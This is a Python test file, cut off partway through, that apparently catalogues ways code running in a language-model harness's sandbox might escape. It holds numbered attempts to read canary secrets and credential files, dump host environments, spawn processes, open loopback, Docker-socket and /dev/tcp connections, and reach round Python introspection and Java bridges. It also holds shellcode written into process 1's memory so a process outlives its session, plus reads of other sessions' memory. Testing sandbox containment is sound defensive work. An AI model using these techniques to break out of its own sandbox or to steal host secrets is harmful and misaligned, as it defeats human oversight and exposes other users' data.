"""What a guest tries in order to get out: the escape list.

A block is an attempt. Its heading says: id (the letter is the class), what is tried, and how an escape is seen; "spoils"
says that the session is of no use afterwards. Escapes are seen from outside only:

    secret     what only a canary file holds, or its name, came back
    changed    a canary file or folder was made, changed or removed
    connected  a listener of ours got a connection or a datagram
    host       something of the host's own came back: environment, command line, user, addresses, a file's identity
    neighbour  what only another session knows came back, or that session was ended
    left       a process, temporary folder or control group is still there afterwards
    bounds     time, memory or output went past their bounds
    believed   the host failed, hung, or took the guest's word for what is its own to know

Only canaries of ours are read, written and connected to; of the host no more than what is named is looked at, and it
is compared, never shown. These names are defined in front of an attempt:

    FOLDER, SECRET, VICTIM, TARGET  a folder of ours on the host; in it a file to read, one to change, one to make
    KEYS, NETRC                     files like those in which keys are kept
    PORT, PORT6, UDP_PORT           listeners on 127.0.0.1 and ::1
    UNIX_SOCKET, ABSTRACT           listeners with a path and in the abstract namespace
    PASSWD, DEV_MEM, DOCKER_SOCKET  files of the system, where there are any; their identity is what is asked for
    HOST_PID, NEIGHBOURS            processes: rlm's own, and those of another session of the same engine
    PREFIX, TOKEN, CELL             with which canaries begin; a word for command lines; the number of this cell

Classes G and H run only where something outside the guest bounds it. What is harmful if it works (signals to all
processes, writing to /sys or a terminal, mounting) is not tried.
"""


# ---- A. Files ----

#: A01 | open reads a file | secret
print(open(SECRET).read())

#: A02 | io.open reads a file | secret
import io
print(io.open(SECRET).read())

#: A03 | io.FileIO reads a file | secret
import io
print(io.FileIO(SECRET).read())

#: A04 | io.open_code reads a file | secret
import io
print(io.open_code(SECRET).read())

#: A05 | os.open and os.read read a file | secret
import os
print(os.read(os.open(SECRET, os.O_RDONLY), 1000))

#: A06 | posix.open reads a file | secret
import posix
print(posix.read(posix.open(SECRET, posix.O_RDONLY), 1000))

#: A07 | codecs.open reads a file | secret
import codecs
print(codecs.open(SECRET).read())

#: A08 | json.codecs.builtins.open reads a file | secret
import json
print(json.codecs.builtins.open(SECRET).read())

#: A09 | pathlib.Path.read_text | secret
import pathlib
print(pathlib.Path(SECRET).read_text())

#: A10 | pathlib.Path.read_bytes | secret
import pathlib
print(pathlib.Path(SECRET).read_bytes())

#: A11 | linecache.getlines reads a file | secret
import linecache
print(linecache.getlines(SECRET))

#: A12 | fileinput reads a file | secret
import fileinput
print(list(fileinput.input([SECRET])))

#: A13 | zipfile packs a file | secret
import io, zipfile
packed = io.BytesIO()
with zipfile.ZipFile(packed, "w") as archive:
    archive.write(SECRET, "found")
print(zipfile.ZipFile(packed).read("found"))

#: A14 | tarfile packs a file | secret
import io, tarfile
packed = io.BytesIO()
with tarfile.open(fileobj=packed, mode="w") as archive:
    archive.add(SECRET, "found")
print(packed.getvalue())

#: A15 | mmap maps a file | secret
import mmap
with open(SECRET) as file:
    print(mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ)[:])

#: A16 | tokenize.open reads a file | secret
import tokenize
print(tokenize.open(SECRET).read())

#: A17 | configparser tells of a file in its error | secret
import configparser
configparser.ConfigParser().read_file(open(SECRET))

#: A18 | netrc reads passwords | secret
import netrc
print(netrc.netrc(NETRC).authenticators("canary"))

#: A19 | urllib reads a file: address | secret
import urllib.request
print(urllib.request.urlopen("file://" + urllib.request.pathname2url(SECRET)).read())

#: A20 | an external entity of an XML document | secret
import io, xml.sax, xml.sax.handler
class Found(xml.sax.handler.ContentHandler):
    def characters(self, text):
        print(text)
parser = xml.sax.make_parser()
parser.setFeature(xml.sax.handler.feature_external_ges, True)
parser.setContentHandler(Found())
parser.parse(io.StringIO('<!DOCTYPE a [<!ENTITY x SYSTEM "%s">]><a>&x;</a>' % SECRET))

#: A21 | an import from a folder of the host | secret
import sys
sys.path.insert(0, FOLDER)
sys.modules.pop("canary_module", None)
try:
    import canary_module
    print(canary_module.found)
finally:
    sys.path.remove(FOLDER)

#: A22 | runpy runs a file | secret
import runpy
print(runpy.run_path(FOLDER + "/canary_module.py")["found"])

#: A23 | a source loader reads a file | secret
import importlib.machinery
print(importlib.machinery.SourceFileLoader("found", SECRET).get_data(SECRET))

#: A24 | pkgutil.get_data reads a file beside a module | secret
import pkgutil, sys, types
module = types.ModuleType("beside")
module.__file__ = FOLDER + "/__init__.py"
import importlib.machinery
module.__spec__ = importlib.machinery.ModuleSpec("beside", importlib.machinery.SourceFileLoader("beside", module.__file__), origin=module.__file__)
module.__loader__ = module.__spec__.loader
sys.modules["beside"] = module
print(pkgutil.get_data("beside", "secret.txt"))

#: A25 | ctypes calls the C library's open and read | secret
import ctypes
libc = ctypes.CDLL(None)
text = ctypes.create_string_buffer(1000)
libc.read(libc.open(SECRET.encode(), 0), text, 999)
print(text.value)

#: A26 | os.sendfile copies a file into one of its own | secret
import os, tempfile
with open(SECRET, "rb") as file, tempfile.TemporaryFile() as own:
    os.sendfile(own.fileno(), file.fileno(), 0, 1000)
    own.seek(0)
    print(own.read())

#: A27 | os.listdir lists a folder | secret
import os
print(os.listdir(FOLDER))

#: A28 | os.scandir lists a folder | secret
import os
print([entry.name for entry in os.scandir(FOLDER)])

#: A29 | os.walk lists a folder | secret
import os
print(list(os.walk(FOLDER)))

#: A30 | glob lists a folder | secret
import glob
print(glob.glob(glob.escape(FOLDER) + "/*"))

#: A31 | a relative path that climbs | secret
print(open("../" * 40 + SECRET.lstrip("/")).read())

#: A32 | a path relative to an open folder | secret
import os
root = os.open("/", os.O_RDONLY)
print(os.read(os.open(SECRET.lstrip("/"), os.O_RDONLY, dir_fd=root), 1000))

#: A33 | a symbolic link out of its own folder | secret
import os, tempfile
with tempfile.TemporaryDirectory() as own:
    os.symlink(SECRET, own + "/link")
    print(open(own + "/link").read())

#: A34 | a symbolic link to a folder, out of its own | secret
import os, tempfile
with tempfile.TemporaryDirectory() as own:
    os.symlink(FOLDER, own + "/link")
    print(open(own + "/link/secret.txt").read())

#: A35 | a hard link into its own folder | secret
import os, tempfile
with tempfile.TemporaryDirectory() as own:
    os.link(SECRET, own + "/link")
    print(open(own + "/link").read())

#: A36 | an archive that unpacks over its folder's edge | changed
import io, tarfile, tempfile
packed = io.BytesIO()
with tarfile.open(fileobj=packed, mode="w") as archive:
    entry = tarfile.TarInfo("../" * 40 + TARGET.lstrip("/"))
    entry.size = 4
    archive.addfile(entry, io.BytesIO(b"made"))
packed.seek(0)
with tempfile.TemporaryDirectory() as own:
    tarfile.open(fileobj=packed).extractall(own)

#: A37 | open makes a file | changed
with open(TARGET, "w") as file:
    file.write("made")

#: A38 | open adds to a file | changed
with open(VICTIM, "a") as file:
    file.write("more")

#: A39 | pathlib.Path.write_text makes a file | changed
import pathlib
pathlib.Path(TARGET).write_text("made")

#: A40 | pathlib.Path.touch makes a file | changed
import pathlib
pathlib.Path(TARGET).touch()

#: A41 | os.open makes a file | changed
import os
os.close(os.open(TARGET, os.O_CREAT | os.O_WRONLY))

#: A42 | shutil.copyfile makes a file | changed
import shutil
shutil.copyfile(SECRET, TARGET)

#: A43 | sqlite3.connect makes a database | changed
import sqlite3
with sqlite3.connect(TARGET) as database:
    database.execute("create table made (it)")
database.close()

#: A44 | dbm makes a database | changed
import dbm.dumb
dbm.dumb.open(TARGET, "c").close()

#: A45 | gzip.open makes a file | changed
import gzip
with gzip.open(TARGET, "wb") as file:
    file.write(b"made")

#: A46 | a log handler makes a file | changed
import logging
logging.FileHandler(TARGET).close()

#: A47 | a mailbox makes a file | changed
import mailbox
box = mailbox.mbox(TARGET)
box.add("made")
box.close()

#: A48 | py_compile makes a file | changed
import py_compile
py_compile.compile(FOLDER + "/canary_module.py", cfile=TARGET, doraise=True)

#: A49 | tempfile makes a file in a folder of the host | changed
import tempfile
tempfile.mkstemp(dir=FOLDER)

#: A50 | os.mkdir | changed
import os
os.mkdir(TARGET)

#: A51 | os.mkfifo | changed
import os
os.mkfifo(TARGET)

#: A52 | os.symlink into a folder of the host | changed
import os
os.symlink(SECRET, TARGET)

#: A53 | os.link in a folder of the host | changed
import os
os.link(SECRET, TARGET)

#: A54 | os.rename | changed
import os
os.rename(VICTIM, TARGET)

#: A55 | os.remove | changed
import os
os.remove(VICTIM)

#: A56 | os.truncate | changed
import os
os.truncate(VICTIM, 0)

#: A57 | os.chmod | changed
import os
os.chmod(VICTIM, 0o600)

#: A58 | os.utime | changed
import os
os.utime(VICTIM, (1, 1))

#: A59 | shutil.rmtree | changed
import shutil
shutil.rmtree(FOLDER)

#: A60 | /proc/self/environ | host
print(open("/proc/self/environ").read().replace("\0", "\n"))

#: A61 | /proc/self/root | secret
print(open("/proc/self/root" + SECRET).read())

#: A62 | /proc/self/cwd, and up from there | secret
print(open("/proc/self/cwd/" + "../" * 40 + SECRET.lstrip("/")).read())

#: A63 | /proc/1/root | secret
print(open("/proc/1/root" + SECRET).read())

#: A64 | the root of rlm's own process in /proc | secret
print(open("/proc/%d/root%s" % (HOST_PID, SECRET)).read())

#: A65 | os.chroot into a folder of the host | secret | spoils
import os
os.chroot(FOLDER)
print(os.listdir("/"))

#: A66 | /etc/passwd | host
import os
open(PASSWD).close()
found = os.stat(PASSWD)
print("%d:%d" % (found.st_ino, found.st_mtime_ns))

#: A67 | /sys tells of the host's network cards | host
import glob
print([open(file).read() for file in glob.glob("/sys/class/net/*/address")])

#: A68 | /dev/mem can be opened | host
import os
os.close(os.open(DEV_MEM, os.O_RDONLY))
found = os.stat(DEV_MEM)
print("%d:%d" % (found.st_ino, found.st_mtime_ns))


# ---- B. Processes: one may start inside the fence; what counts is what it reaches ----

#: B01 | os.system | changed
import os
os.system("touch '%s'" % TARGET)

#: B02 | os.popen | changed
import os
os.popen("touch '%s'" % TARGET).close()

#: B03 | pathlib.os.popen | changed
import pathlib
pathlib.os.popen("touch '%s'" % TARGET).close()

#: B04 | subprocess.run | changed
import subprocess
subprocess.run(["touch", TARGET])

#: B05 | a shell reads a file | secret
import subprocess
print(subprocess.check_output("cat '%s'" % SECRET, shell=True))

#: B06 | a program reads the environment | host
import subprocess
print(subprocess.check_output(["env"], text=True))

#: B07 | pty.spawn | changed
import pty
pty.spawn(["touch", TARGET])

#: B08 | multiprocessing | changed
import multiprocessing, pathlib
child = multiprocessing.get_context("fork").Process(target=pathlib.Path(TARGET).touch)
child.start()
child.join(5)

#: B09 | concurrent.futures.ProcessPoolExecutor | changed
import concurrent.futures, multiprocessing, pathlib
with concurrent.futures.ProcessPoolExecutor(1, multiprocessing.get_context("fork")) as pool:
    pool.submit(pathlib.Path(TARGET).touch).result(5)

#: B10 | os.fork | changed
import os
pid = os.fork()
if pid == 0:
    try:
        open(TARGET, "w").close()
    finally:
        os._exit(0)
os.waitpid(pid, 0)

#: B11 | os.forkpty | changed
import os
pid, terminal = os.forkpty()
if pid == 0:
    try:
        open(TARGET, "w").close()
    finally:
        os._exit(0)
os.waitpid(pid, 0)
os.close(terminal)

#: B12 | os.execv | changed
import os
os.execv("/bin/sh", ["sh", "-c", "touch '%s'" % TARGET])

#: B13 | os.execvp | changed
import os
os.execvp("touch", ["touch", TARGET])

#: B14 | os.execle | changed
import os
os.execle("/bin/sh", "sh", "-c", "touch '%s'" % TARGET, {"PATH": "/usr/bin:/bin"})

#: B15 | os.posix_spawn | changed
import os
os.waitpid(os.posix_spawn("/bin/sh", ["sh", "-c", "touch '%s'" % TARGET], {"PATH": "/usr/bin:/bin"}), 0)

#: B16 | os.posix_spawnp | changed
import os
os.waitpid(os.posix_spawnp("touch", ["touch", TARGET], {"PATH": "/usr/bin:/bin"}), 0)

#: B17 | os.spawnvp | changed
import os
os.spawnvp(os.P_WAIT, "touch", ["touch", TARGET])

#: B18 | ctypes.CDLL(None).system | changed
import ctypes
ctypes.CDLL(None).system(("touch '%s'" % TARGET).encode())

#: B19 | asyncio.base_events.events.subprocess | changed
import asyncio
asyncio.base_events.events.subprocess.run(["touch", TARGET])

#: B20 | asyncio.create_subprocess_exec | changed
import asyncio
async def start():
    child = await asyncio.create_subprocess_exec("touch", TARGET)
    await child.wait()
asyncio.run(asyncio.wait_for(start(), 5))

#: B21 | _posixsubprocess.fork_exec through subprocess._fork_exec | changed
import subprocess
subprocess.Popen(["/bin/sh", "-c", "touch '%s'" % TARGET], preexec_fn=lambda: None).wait()

#: B22 | _posixsubprocess.fork_exec | changed
import _posixsubprocess, os, sys
reading, writing = os.pipe()
before = [[b"/bin/sh", b"-c", ("touch '%s'" % TARGET).encode()], [b"/bin/sh"], True, (), None, None,
          -1, -1, -1, -1, -1, -1, reading, writing, True, False]
between = [0] if sys.version_info >= (3, 11) else []
pid = _posixsubprocess.fork_exec(*before, *between, None, None, None, -1, None,
                                 *([True] if sys.version_info[:2] in ((3, 11), (3, 12), (3, 13)) else []))
os.waitpid(pid, 0)
os.close(reading); os.close(writing)

#: B23 | pydoc pipes into a program | changed
import pydoc
pydoc.pipepager("text", "touch '%s'" % TARGET)

#: B24 | imaplib runs a program | changed
import imaplib
imaplib.IMAP4_stream("touch '%s'" % TARGET)

#: B25 | a process outlives its session | left
import subprocess, sys
subprocess.Popen([sys.executable or "python3", "-c", "import time; time.sleep(20)", TOKEN], start_new_session=True)

#: B26 | a daemon outlives its session | left
import os, sys
begun, begins = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(20)", TOKEN])
    os._exit(0)
os.close(begins)
os.read(begun, 1)  # Returns once the daemon is a program of its own.

#: B27 | process 1 of a box is taken over through its memory, and outlives its session | left | spoils
import os, struct, sys, time
if open("/proc/1/comm").read() != "bwrap\n":
    raise SystemExit("process 1 is not that of a box, and nobody touches it")
at = int(open("/proc/1/syscall").read().split()[-1], 16)
told = [int(name) for name in os.listdir("/proc/1/fd") if "eventfd" in os.readlink("/proc/1/fd/" + name)]
# On x86-64: PR_SET_PDEATHSIG is undone, 1 and 2 are closed, bubblewrap outside is told of the end, children are waited for.
taken = (bytes.fromhex("b89d000000bf0100000031f60f05b803000000bf010000000f05b803000000bf020000000f05b801000000bf") + struct.pack("<i", told[0])
         + bytes.fromhex("488d3526000000ba080000000f05b83d0000004883cfff31f631d24d31d20f0585c079eab83c00000031ff0f05")
         + struct.pack("<q", 1))
memory = os.open("/proc/1/mem", os.O_RDWR)
if os.uname().machine == "x86_64":
    os.pwrite(memory, taken, at)
    for code in ("import time; time.sleep(20)", ""):
        if os.fork() == 0:
            if os.fork() == 0:
                os.setsid()
                os.closerange(0, 256)
                os.execv(sys.executable, [sys.executable, "-c", code, TOKEN])
            os._exit(0)
    time.sleep(2)
    os._exit(0)


# ---- C. Network ----

#: C01 | socket.create_connection to the host's loopback | connected
import socket
socket.create_connection(("127.0.0.1", PORT), timeout=1).close()

#: C02 | socket.socket and connect | connected
import socket
with socket.socket() as s:
    s.settimeout(1)
    s.connect(("127.0.0.1", PORT))

#: C03 | the host's loopback as 0.0.0.0 | connected
import socket
socket.create_connection(("0.0.0.0", PORT), timeout=1).close()

#: C04 | the host's loopback over IPv6 | connected
import socket
socket.create_connection(("::1", PORT6), timeout=1).close()

#: C05 | _socket.socket | connected
import _socket
s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
s.settimeout(1)
s.connect(("127.0.0.1", PORT))
s.close()

#: C06 | a connection that is not waited for | connected
import select, socket
with socket.socket() as s:
    s.setblocking(False)
    s.connect_ex(("127.0.0.1", PORT))
    select.select([], [s], [], 1)

#: C07 | ctypes calls the C library's connect | connected
import ctypes, struct
libc = ctypes.CDLL(None)
address = struct.pack("=H", 2) + struct.pack("!H", PORT) + bytes([127, 0, 0, 1]) + bytes(8)
libc.connect(libc.socket(2, 1, 0), address, len(address))

#: C08 | a datagram | connected
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(b"out", ("127.0.0.1", UDP_PORT))

#: C09 | a name is looked up, then connected to | connected
import socket
family, kind, protocol, _, address = socket.getaddrinfo("localhost", PORT, socket.AF_INET, socket.SOCK_STREAM)[0]
with socket.socket(family, kind, protocol) as s:
    s.settimeout(1)
    s.connect(address)

#: C10 | a DNS question that carries data | connected
import socket
name = b"".join(bytes([len(part)]) + part for part in (b"carried", b"out", b"invalid")) + b"\0"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(b"\x12\x34\x01\x00\x00\x01" + bytes(6) + name + b"\x00\x01\x00\x01", ("127.0.0.1", UDP_PORT))

#: C11 | urllib.request | connected
import urllib.request
urllib.request.urlopen("http://127.0.0.1:%d/" % PORT, timeout=1)

#: C12 | http.client | connected
import http.client
http.client.HTTPConnection("127.0.0.1", PORT, timeout=1).request("GET", "/")

#: C13 | ssl | connected
import socket, ssl
with socket.create_connection(("127.0.0.1", PORT), timeout=1) as s:
    ssl.create_default_context().wrap_socket(s, server_hostname="localhost")

#: C14 | http.client with TLS | connected
import http.client
http.client.HTTPSConnection("localhost", PORT, timeout=1).request("GET", "/")

#: C15 | xmlrpc.client | connected
import socket, xmlrpc.client
socket.setdefaulttimeout(1)
try:
    xmlrpc.client.ServerProxy("http://127.0.0.1:%d/" % PORT).call()
finally:
    socket.setdefaulttimeout(None)

#: C16 | ftplib | connected
import ftplib
ftplib.FTP(timeout=1).connect("127.0.0.1", PORT)

#: C17 | smtplib | connected
import smtplib
smtplib.SMTP("127.0.0.1", PORT, timeout=1)

#: C18 | imaplib | connected
import imaplib
imaplib.IMAP4("127.0.0.1", PORT, timeout=1)

#: C19 | poplib | connected
import poplib
poplib.POP3("127.0.0.1", PORT, timeout=1)

#: C20 | asyncio.open_connection | connected
import asyncio
asyncio.run(asyncio.wait_for(asyncio.open_connection("127.0.0.1", PORT), 2))

#: C21 | a log handler that sends | connected
import logging, logging.handlers
handler = logging.handlers.SocketHandler("127.0.0.1", PORT)
handler.emit(logging.makeLogRecord({"msg": "out"}))
handler.close()

#: C22 | a log handler that sends datagrams | connected
import logging, logging.handlers
handler = logging.handlers.SysLogHandler(("127.0.0.1", UDP_PORT))
handler.emit(logging.makeLogRecord({"msg": "out"}))
handler.close()

#: C23 | multiprocessing.connection | connected
import multiprocessing.connection
multiprocessing.connection.Client(("127.0.0.1", PORT)).close()

#: C24 | a raw socket | connected
import socket, struct
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as s:
    s.sendto(struct.pack("!HHHH", UDP_PORT, UDP_PORT, 11, 0) + b"out", ("127.0.0.1", 0))

#: C25 | the shell's own connection | connected
import subprocess
subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/%d" % PORT], timeout=5)

#: C26 | an abstract unix socket | connected
import socket
with socket.socket(socket.AF_UNIX) as s:
    s.settimeout(1)
    s.connect("\0" + ABSTRACT)

#: C27 | a unix socket with a path, as Docker's | connected
import socket
with socket.socket(socket.AF_UNIX) as s:
    s.settimeout(1)
    s.connect(UNIX_SOCKET)

#: C28 | HTTP over a unix socket, as Docker's clients | connected
import http.client, socket
connection = http.client.HTTPConnection("localhost", timeout=1)
connection.sock = socket.socket(socket.AF_UNIX)
connection.sock.settimeout(1)
connection.sock.connect(UNIX_SOCKET)
connection.request("GET", "/version")

#: C29 | the Docker socket is there; it is looked at, not spoken to | host
import os
found = os.stat(DOCKER_SOCKET)
print("%d:%d" % (found.st_ino, found.st_mtime_ns))

#: C30 | a route to the cloud's metadata address; nothing is sent | host
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.connect(("169.254.169.254", 80))
    print(s.getsockname()[0])


# ---- D. Reaching round ----

#: D01 | ().__class__.__base__.__subclasses__() | secret
for kind in ().__class__.__base__.__subclasses__():
    names = getattr(getattr(kind, "__init__", None), "__globals__", {})
    if "__builtins__" in names:
        found = names["__builtins__"]
        print((found if isinstance(found, dict) else vars(found))["open"](SECRET).read())
        break

#: D02 | io classes by their subclasses | secret
import io
print([kind for kind in io.RawIOBase.__base__.__subclasses__() if kind.__name__ == "FileIO"][0](SECRET).read())

#: D03 | a traceback's frames: tb_frame.f_back.f_globals | secret
try:
    1 / 0
except ZeroDivisionError as e:
    frame = e.__traceback__.tb_frame.f_back
    while frame is not None:
        found = frame.f_globals.get("__builtins__", {})
        found = found if isinstance(found, dict) else vars(found)
        if "open" in found:
            print(found["open"](SECRET).read())
            break
        frame = frame.f_back

#: D04 | sys._getframe().f_builtins['__import__'] | secret
import sys
os = sys._getframe().f_builtins["__import__"]("os")
print(os.read(os.open(SECRET, os.O_RDONLY), 1000))

#: D05 | re.enum.sys.modules['os'] | secret
import os, re
found = re.enum.sys.modules["os"]
print(found.read(found.open(SECRET, found.O_RDONLY), 1000))

#: D06 | uuid.os.environ | host
import uuid
print("\n".join("%s=%s" % each for each in uuid.os.environ.items()))

#: D07 | statistics.sys.modules | secret
import statistics
found = statistics.sys.modules["posix"]
print(found.read(found.open(SECRET, found.O_RDONLY), 1000))

#: D08 | random._os | changed
import random
random._os.system("touch '%s'" % TARGET)

#: D09 | queue.threading._os | changed
import queue
queue.threading._os.system("touch '%s'" % TARGET)

#: D10 | doctest.inspect.os | changed
import doctest
doctest.inspect.os.system("touch '%s'" % TARGET)

#: D11 | warnings.sys | secret
import warnings
found = warnings.sys.modules["builtins"]
print(found.open(SECRET).read())

#: D12 | BuiltinImporter().load_module | secret
import _frozen_importlib
found = _frozen_importlib.BuiltinImporter().load_module("posix")
print(found.read(found.open(SECRET, found.O_RDONLY), 1000))

#: D13 | gc.get_objects() finds an open function | secret
import gc
for each in gc.get_objects():
    if type(each) is dict and "open" in each and callable(each["open"]) and "O_RDONLY" not in each:
        try:
            print(each["open"](SECRET).read())
            break
        except Exception:
            pass

#: D14 | importlib.reload brings fresh modules | secret
import importlib, os
fresh = importlib.reload(os)
print(fresh.read(fresh.open(SECRET, fresh.O_RDONLY), 1000))

#: D15 | sys.modules is emptied and filled anew | changed
import sys
for name in ("os", "posix", "subprocess"):
    sys.modules.pop(name, None)
import os
os.system("touch '%s'" % TARGET)

#: D16 | sys.settrace reaches frames that come later | secret
import sys
def look(frame, event, argument):
    sys.settrace(None)
    print(frame.f_builtins["open"](SECRET).read())
sys.settrace(look)
(lambda: None)()
sys.settrace(None)

#: D17 | sys.setprofile reaches frames that come later | secret
import sys
def look(frame, event, argument):
    sys.setprofile(None)
    print(frame.f_back.f_builtins["open"](SECRET).read() if frame.f_back else open(SECRET).read())
sys.setprofile(look)
(lambda: None)()
sys.setprofile(None)

#: D18 | __builtins__ is patched for whoever calls it next | secret
import builtins, sys
plain = builtins.isinstance
def look(*args):
    builtins.isinstance = plain
    print(sys._getframe(1).f_builtins["open"](SECRET).read())
    return plain(*args)
builtins.isinstance = look
try:
    import fractions
    fractions.Fraction("1/2")
finally:
    builtins.isinstance = plain

#: D19 | builtins.open is replaced, and the old one kept | secret
import builtins
kept = builtins.open
builtins.open = lambda *args, **more: kept(SECRET)
try:
    print(builtins.open("nothing").read(), kept(SECRET).read())
finally:
    builtins.open = kept

#: D20 | the helpers' own globals: llm_query.__globals__ | secret
found = llm_query.__globals__["__builtins__"]
print((found if isinstance(found, dict) else vars(found))["open"](SECRET).read())

#: D21 | a generator's frame | secret
def steps():
    yield
print(steps().gi_frame.f_builtins["open"](SECRET).read())

#: D22 | frames of all threads | secret
import sys
for frame in sys._current_frames().values():
    print(frame.f_builtins["open"](SECRET).read())

#: D23 | a pickle that calls a function | changed
import os, pickle
class Call:
    def __reduce__(self):
        return os.system, ("touch '%s'" % TARGET,)
pickle.loads(pickle.dumps(Call()))

#: D24 | a format string that climbs | host
import os
class Climb:
    pass
Climb.there = os
print("{0.there.environ}".format(Climb()).replace("': '", "="))

#: D25 | code.InteractiveInterpreter | secret
import code
code.InteractiveInterpreter({"SECRET": SECRET}).runsource("print(open(SECRET).read())")

#: D26 | ctypes.pythonapi | secret
import ctypes
ctypes.pythonapi.PyRun_SimpleString(("print(open(%r).read())" % SECRET).encode())


# ---- E. Into Java ----

#: E01 | import java reads a file | secret
import java
print(java.type("java.nio.file.Files").readString(java.type("java.nio.file.Path").of(SECRET)))

#: E02 | java.type('java.lang.Runtime') runs a program | changed
import java
java.type("java.lang.Runtime").getRuntime().exec(["touch", TARGET]).waitFor()

#: E03 | classes imported like modules | changed
from java.io import File
File(TARGET).createNewFile()

#: E04 | java.lang.System tells the environment | host
import java
environment = java.type("java.lang.System").getenv()
print("\n".join("%s=%s" % (name, environment[name]) for name in environment))

#: E05 | java.net.Socket connects | connected
import java
java.type("java.net.Socket")("127.0.0.1", PORT).close()

#: E06 | java.add_to_classpath | secret
import java
java.add_to_classpath(FOLDER)
print(java.type("java.nio.file.Files").readString(java.type("java.nio.file.Path").of(SECRET)))

#: E07 | polyglot.eval in the same language | secret
import polyglot
print(polyglot.eval(language="python", string="open(%r).read()" % SECRET))

#: E08 | polyglot.eval of a file | secret
import polyglot
print(polyglot.eval(language="python", path=FOLDER + "/canary_module.py"))
print(polyglot.eval(language="python", string="found"))

#: E09 | polyglot.eval in another language | changed
import polyglot
for language in ("js", "ruby", "llvm", "nfi", "host"):
    try:
        polyglot.eval(language=language, string="java.lang.Runtime.getRuntime().exec(['touch', %r])" % TARGET)
    except Exception:
        pass

#: E10 | polyglot's bindings | secret
import polyglot
for name in ("java", "host", "Java"):
    try:
        print(polyglot.import_value(name).type("java.nio.file.Files").readString(SECRET))
    except Exception:
        pass

#: E11 | what __graalpython__ offers, called with paths | changed | spoils
import sys
offered = __graalpython__
for name in dir(offered):
    for argument in (TARGET, SECRET):
        try:
            print(name, getattr(offered, name)(argument))
        except BaseException:
            pass

#: E12 | jarray makes a host array, which has a class | secret
import jarray
made = jarray.array([1, 2], "i")
files = made.getClass().forName("java.nio.file.Files")
print(files.getMethod("readString", made.getClass()).invoke(None, SECRET))

#: E13 | getClass of the functions that reach the host | secret
import gc
def reach(each):
    kind = each.getClass()
    print(kind.forName("java.nio.file.Files").readAllLines(kind.forName("java.nio.file.Path").of(SECRET)))
cells = [cell.cell_contents for cell in llm_query.__closure__ or ()]
for each in cells + [value for cell in cells for value in getattr(getattr(cell, "__self__", None), "__dict__", {}).values()]:
    try:
        reach(each)
    except BaseException:
        pass

#: E14 | exceptions that carry objects of the host | secret
guest = llm_query.__closure__[0].cell_contents.__self__
for wrong in ((), (object(),), ("x",), (1, 2, 3)):
    for name in ("_write", "_ask"):
        try:
            getattr(guest, name)(*wrong)
        except BaseException as e:
            for each in (e, e.__cause__, e.__context__, *getattr(e, "args", ())):
                try:
                    kind = each.getClass()
                    print(kind.forName("java.nio.file.Files").readAllLines(kind.forName("java.nio.file.Path").of(SECRET)))
                except BaseException:
                    pass


# ---- F. Secrets ----

#: F01 | os.environ | host
import os
print("\n".join("%s=%s" % each for each in os.environ.items()))

#: F02 | os.environb | host
import os
print("\n".join("%s=%s" % (name.decode(), value.decode()) for name, value in os.environb.items()))

#: F03 | posix.environ | host
import posix
print("\n".join("%s=%s" % (name.decode(), value.decode()) for name, value in posix.environ.items()))

#: F04 | the C library's getenv | host
import ctypes
getenv = ctypes.CDLL(None).getenv
getenv.restype = ctypes.c_char_p
print("HOME=%s" % (getenv(b"HOME") or b"").decode(), "USER=%s" % (getenv(b"USER") or b"").decode())

#: F05 | the parent's environment | host
import os
print(open("/proc/%d/environ" % os.getppid()).read().replace("\0", "\n"))

#: F06 | the environment of process 1 | host
print(open("/proc/1/environ").read().replace("\0", "\n"))

#: F07 | the environment of rlm's own process | host
print(open("/proc/%d/environ" % HOST_PID).read().replace("\0", "\n"))

#: F08 | the command lines of the processes above | host
import os
pid = os.getpid()
while pid > 0:
    print(open("/proc/%d/cmdline" % pid).read().replace("\0", "\n"))
    pid = int(open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()[1])

#: F09 | the command line of rlm's own process | host
print(open("/proc/%d/cmdline" % HOST_PID).read().replace("\0", "\n"))

#: F10 | files with keys | secret
for file in KEYS:
    print(open(file).read())

#: F11 | the user's home | host
import os, pathlib
print(os.path.expanduser("~"), pathlib.Path.home())

#: F12 | the user in the list of users | host
import os, pwd
print(pwd.getpwuid(os.getuid()))

#: F13 | paths of the interpreter and its modules | host
import os, sys, json
print("\n".join(map(str, [*sys.path, *sys.argv, sys.executable, sys.prefix, json.__file__, os.getcwd()])))

#: F14 | where open descriptors lead | host
import os
for name in os.listdir("/proc/self/fd"):
    try:
        print(os.readlink("/proc/self/fd/" + name))
    except OSError:
        pass

#: F15 | the driver's frames and what is in them | host
import sys
frame, shown = sys._getframe(), []
while frame is not None:
    for names in (dict(frame.f_locals), frame.f_globals):
        shown.extend(str(value)[:2000] for name, value in names.items() if name not in ("SECRET", "FOLDER"))
    frame = frame.f_back
print("\n".join(shown)[:200000].replace("': '", "="))

#: F16 | the driver's closures | host
shown, todo = [], [llm_query, budget, FINAL]
for function in todo[:200]:
    for cell in getattr(function, "__closure__", None) or ():
        value = cell.cell_contents
        shown.append(str(value)[:2000])
        shown.extend(str(each)[:2000] for each in getattr(getattr(value, "__self__", None), "__dict__", {}).values())
print("\n".join(shown))

#: F17 | strings of other sessions in its own memory | neighbour
import gc
found = set()
for each in gc.get_objects():
    for value in (each.values() if type(each) is dict else each if type(each) in (list, tuple) else ()):
        if type(value) is str and PREFIX in value and len(value) < 1000:
            found.add(value)
print(found)

#: F18 | the memory of another session's process | neighbour
import re
for pid in NEIGHBOURS:
    try:
        regions = open("/proc/%d/maps" % pid).read().splitlines()
        memory = open("/proc/%d/mem" % pid, "rb", 0)
    except OSError:
        continue
    for region in regions:
        start, end = (int(part, 16) for part in region.split()[0].split("-"))
        if region.split()[1].startswith("rw") and end - start < 1 << 26:
            try:
                memory.seek(start)
                for text in re.findall(PREFIX.encode() + b"[0-9a-f]{32}", memory.read(end - start)):
                    print(text.decode())
            except OSError:
                pass

#: F19 | the files of another session's process | neighbour
import os
for pid in NEIGHBOURS:
